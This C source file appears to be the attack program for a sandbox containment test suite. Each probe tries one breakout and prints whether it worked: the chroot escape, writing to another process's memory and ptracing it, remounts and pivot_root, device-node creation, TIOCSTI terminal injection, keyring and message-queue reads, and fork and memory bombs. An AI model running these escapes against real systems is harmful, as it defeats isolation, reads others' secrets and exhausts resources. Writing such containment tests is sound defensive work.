// Attack program for the containment suite: each argument pair is one attack, each prints one
// line "<attack> ok", "<attack> errno=<name>" or "<attack> <value>". Run only inside a sandbox.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#ifndef MOUNT_ATTR_RDONLY
#define MOUNT_ATTR_RDONLY 0x00000001
#endif
#ifndef AT_RECURSIVE
#define AT_RECURSIVE 0x8000
#endif
#define KEYCTL_DESCRIBE 6
#define KEYCTL_LINK 8
#define KEYCTL_READ 11
#define KEY_SPEC_SESSION_KEYRING -3

struct mount_attr_v0 {
  unsigned long long attr_set, attr_clr, propagation, userns_fd;
};

static void report(const char* name, long r) {
  if (r < 0) printf("%s errno=%s\n", name, strerrorname_np(errno));
  else printf("%s ok\n", name);
  fflush(stdout);
}

// Whether any process visible in /proc has the marker in its command line.
static int sees(const char* marker) {
  DIR* d = opendir("/proc");
  if (!d) return -1;
  struct dirent* e;
  int found = 0;
  while ((e = readdir(d))) {
    char path[300], buf[4096];
    snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) continue;
    for (ssize_t i = 0; i < n; i++) if (!buf[i]) buf[i] = ' ';
    buf[n] = 0;
    if (strstr(buf, marker)) found = 1;
  }
  closedir(d);
  return found;
}

// Reads one byte of the target's memory (its first mapping) and writes the same byte back.
static long mem(pid_t pid) {
  char path[64], line[256];
  snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE* maps = fopen(path, "r");
  if (!maps) return -1;
  unsigned long start = 0;
  int got = fgets(line, sizeof line, maps) && sscanf(line, "%lx-", &start) == 1;
  fclose(maps);
  if (!got) { errno = ENODATA; return -1; }
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int fd = open(path, O_RDWR);
  if (fd < 0) return -1;
  char byte;
  long r = pread(fd, &byte, 1, (off_t)start);
  if (r == 1) r = pwrite(fd, &byte, 1, (off_t)start);
  if (r == 0) { errno = EIO; r = -1; }
  int saved = errno;
  close(fd);
  errno = saved;
  return r;
}

static long tcp(int port) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s < 0) return -1;
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  long r = connect(s, (struct sockaddr*)&a, sizeof a);
  int saved = errno;
  close(s);
  errno = saved;
  return r;
}

static long abstract(const char* name) {
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (s < 0) return -1;
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  size_t len = strlen(name);
  if (len > sizeof a.sun_path - 1) len = sizeof a.sun_path - 1;
  memcpy(a.sun_path + 1, name, len); // sun_path[0] = 0: the abstract namespace
  // The whole zero-padded sun_path, as Node (libuv) binds an abstract name.
  long r = connect(s, (struct sockaddr*)&a, sizeof a);
  int saved = errno;
  close(s);
  errno = saved;
  return r;
}

static long unix_path(const char* path) {
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (s < 0) return -1;
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path, path, sizeof a.sun_path - 1);
  long r = connect(s, (struct sockaddr*)&a, sizeof a);
  int saved = errno;
  close(s);
  errno = saved;
  return r;
}

// The classic chroot breakout: chroot into a subdirectory keeping the cwd outside, climb, chroot.
static long chroot_escape(const char* dir, const char* sentinel) {
  mkdir(dir, 0700);
  if (chroot(dir) < 0) return -1;
  for (int i = 0; i < 64; i++) if (chdir("..") < 0) return -1;
  if (chroot(".") < 0) return -1;
  return access(sentinel, F_OK);
}

static long write_file(const char* path, const char* text) {
  int fd = open(path, O_WRONLY | O_TRUNC);
  if (fd < 0) return -1;
  long r = write(fd, text, strlen(text));
  int saved = errno;
  close(fd);
  errno = saved;
  return r;
}

// Forks up to n children that sleep; prints how many forks succeeded, then kills them all.
static void forkbomb(int n) {
  pid_t* kids = calloc(n, sizeof *kids);
  int made = 0;
  for (; made < n; made++) {
    pid_t p = fork();
    if (p < 0) break;
    if (p == 0) { pause(); _exit(0); }
    kids[made] = p;
  }
  printf("forkbomb %d\n", made);
  fflush(stdout);
  for (int i = 0; i < made; i++) kill(kids[i], SIGKILL);
  for (int i = 0; i < made; i++) waitpid(kids[i], NULL, 0);
}

// Touches mb MiB one page at a time; prints how many it got (only if it is not killed first).
static void membomb(long mb) {
  long got = 0;
  for (; got < mb; got++) {
    char* p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) break;
    for (long i = 0; i < (1 << 20); i += 4096) p[i] = 1;
  }
  printf("membomb %ld\n", got);
  fflush(stdout);
}

// A daemon: fork, setsid, fork again, and exec the given program (e.g. a marked sleep).
static void daemonize(char* const* argv) {
  pid_t p = fork();
  if (p == 0) {
    setsid();
    if (fork() == 0) {
      int null = open("/dev/null", O_RDWR);
      if (null >= 0) { dup2(null, 0); dup2(null, 1); dup2(null, 2); }
      execv(argv[0], argv);
      _exit(127);
    }
    _exit(0);
  }
  waitpid(p, NULL, 0);
  printf("daemon ok\n");
  fflush(stdout);
}

int main(int argc, char** argv) {
  for (int i = 1; i < argc; i++) {
    const char* w = argv[i];
    const char* a = i + 1 < argc ? argv[i + 1] : "";
    errno = 0;
    if (!strcmp(w, "sees")) {
      // The marker comes in two halves so that this program's own command line does not hold it.
      char whole[256];
      snprintf(whole, sizeof whole, "%s%s", a, i + 2 < argc ? argv[i + 2] : "");
      printf("sees %s\n", sees(whole) ? "yes" : "no");
      fflush(stdout);
      i += 2;
    }
    else if (!strcmp(w, "kill")) { report(w, kill(atoi(a), SIGKILL)); i++; }
    else if (!strcmp(w, "signal0")) { report(w, kill(atoi(a), 0)); i++; }
    else if (!strcmp(w, "ptrace")) {
      long r = ptrace(PTRACE_SEIZE, atoi(a), 0, 0);
      report(w, r);
      if (r == 0) ptrace(PTRACE_DETACH, atoi(a), 0, 0);
      i++;
    }
    else if (!strcmp(w, "mem")) { report(w, mem(atoi(a))); i++; }
    else if (!strcmp(w, "tcp")) { report(w, tcp(atoi(a))); i++; }
    else if (!strcmp(w, "unix")) { report(w, unix_path(a)); i++; }
    else if (!strcmp(w, "abstract")) { report(w, abstract(a)); i++; }
    else if (!strcmp(w, "chroot-escape")) { report(w, chroot_escape("/tmp/x", a)); i++; }
    else if (!strcmp(w, "access")) { report(w, access(a, F_OK)); i++; }
    else if (!strcmp(w, "writable")) { report(w, access(a, W_OK)); i++; }
    else if (!strcmp(w, "rewrite")) {
      // Writes a file's own content back to it (a sysctl keeps its value even if this works).
      char buf[4096];
      int fd = open(a, O_RDONLY);
      long n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
      if (fd >= 0) close(fd);
      if (n >= 0) {
        fd = open(a, O_WRONLY);
        n = fd < 0 ? -1 : write(fd, buf, n);
        int saved = errno;
        if (fd >= 0) close(fd);
        errno = saved;
      }
      report(w, n);
      i++;
    }
    else if (!strcmp(w, "write")) { report(w, write_file(a, "attacked\n")); i++; }
    else if (!strcmp(w, "remount")) { report(w, mount(NULL, a, NULL, MS_REMOUNT | MS_BIND, NULL)); i++; }
    else if (!strcmp(w, "mount-setattr")) {
      struct mount_attr_v0 attr = {.attr_clr = MOUNT_ATTR_RDONLY};
      report(w, syscall(SYS_mount_setattr, AT_FDCWD, a, AT_RECURSIVE, &attr, sizeof attr));
      i++;
    }
    else if (!strcmp(w, "umount")) { report(w, umount2(a, MNT_DETACH)); i++; }
    else if (!strcmp(w, "pivot-root")) {
      // pivot_root(".", ".") from the root: the old root is stacked on the new one, then detached.
      long r = chdir(a);
      if (r == 0) r = syscall(SYS_pivot_root, ".", ".");
      if (r == 0) r = umount2(".", MNT_DETACH);
      report(w, r);
      i++;
    }
    else if (!strcmp(w, "mknod-char")) { report(w, mknod(a, S_IFCHR | 0600, makedev(1, 3))); i++; }
    else if (!strcmp(w, "mknod-block")) { report(w, mknod(a, S_IFBLK | 0600, makedev(7, 0))); i++; }
    else if (!strcmp(w, "euid")) { printf("euid %d\n", (int)geteuid()); fflush(stdout); }
    else if (!strcmp(w, "tiocsti")) {
      // Pushes the text into the input queue of the terminal on fd 0, one byte at a time.
      long r = 0;
      for (const char* c = a; *c && r == 0; c++) r = ioctl(0, TIOCSTI, c);
      report(w, r);
      i++;
    }
    else if (!strcmp(w, "key-describe")) {
      char buf[256];
      report(w, syscall(SYS_keyctl, KEYCTL_DESCRIBE, atoi(a), buf, sizeof buf));
      i++;
    }
    else if (!strcmp(w, "key-read")) {
      char buf[256] = {0};
      long r = syscall(SYS_keyctl, KEYCTL_READ, atoi(a), buf, sizeof buf - 1);
      if (r >= 0) printf("key-read %s\n", buf); else report(w, r);
      fflush(stdout);
      i++;
    }
    else if (!strcmp(w, "key-link")) { report(w, syscall(SYS_keyctl, KEYCTL_LINK, atoi(a), KEY_SPEC_SESSION_KEYRING)); i++; }
    else if (!strcmp(w, "shm")) {
      void* p = shmat(atoi(a), NULL, SHM_RDONLY);
      report(w, p == (void*)-1 ? -1 : 0);
      if (p != (void*)-1) shmdt(p);
      i++;
    }
    else if (!strcmp(w, "msg")) {
      struct msqid_ds ds;
      report(w, msgctl(atoi(a), IPC_STAT, &ds));
      i++;
    }
    else if (!strcmp(w, "mq")) {
      mqd_t q = mq_open(a, O_RDONLY | O_NONBLOCK);
      if (q == (mqd_t)-1) report(w, -1);
      else {
        char buf[8192] = {0};
        long r = mq_receive(q, buf, sizeof buf, NULL);
        if (r >= 0) printf("mq %s\n", buf); else report(w, r);
        fflush(stdout);
        mq_close(q);
      }
      i++;
    }
    else if (!strcmp(w, "forkbomb")) { forkbomb(atoi(a)); i++; }
    else if (!strcmp(w, "membomb")) { membomb(atol(a)); i++; }
    else if (!strcmp(w, "int80-getpid")) {
      // An i386 system call from a 64-bit program: int 0x80 with the i386 number of getpid (20).
      long r;
      __asm__ volatile("int $0x80" : "=a"(r) : "a"(20L) : "memory");
      printf("int80-getpid %s\n", r == getpid() ? "ok" : "wrong");
      fflush(stdout);
    }
    else if (!strcmp(w, "x32-getpid")) {
      // An x32 system call: the x86_64 number with __X32_SYSCALL_BIT (0x40000000) set.
      long r = syscall(0x40000000L | SYS_getpid);
      if (r == getpid()) printf("x32-getpid ok\n"); else report(w, r);
      fflush(stdout);
    }
    else if (!strcmp(w, "fds")) {
      // The open descriptors, less the one reading the directory.
      DIR* d = opendir("/proc/self/fd");
      if (!d) { report(w, -1); continue; }
      char list[1024] = "";
      struct dirent* e;
      while ((e = readdir(d))) {
        if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d)) continue;
        if (list[0]) strncat(list, ",", sizeof list - strlen(list) - 1);
        strncat(list, e->d_name, sizeof list - strlen(list) - 1);
      }
      closedir(d);
      printf("fds %s\n", list);
      fflush(stdout);
    }
    else if (!strcmp(w, "daemon")) { daemonize(argv + i + 1); break; }
    else { printf("%s unknown\n", w); return 2; }
  }
  return 0;
}
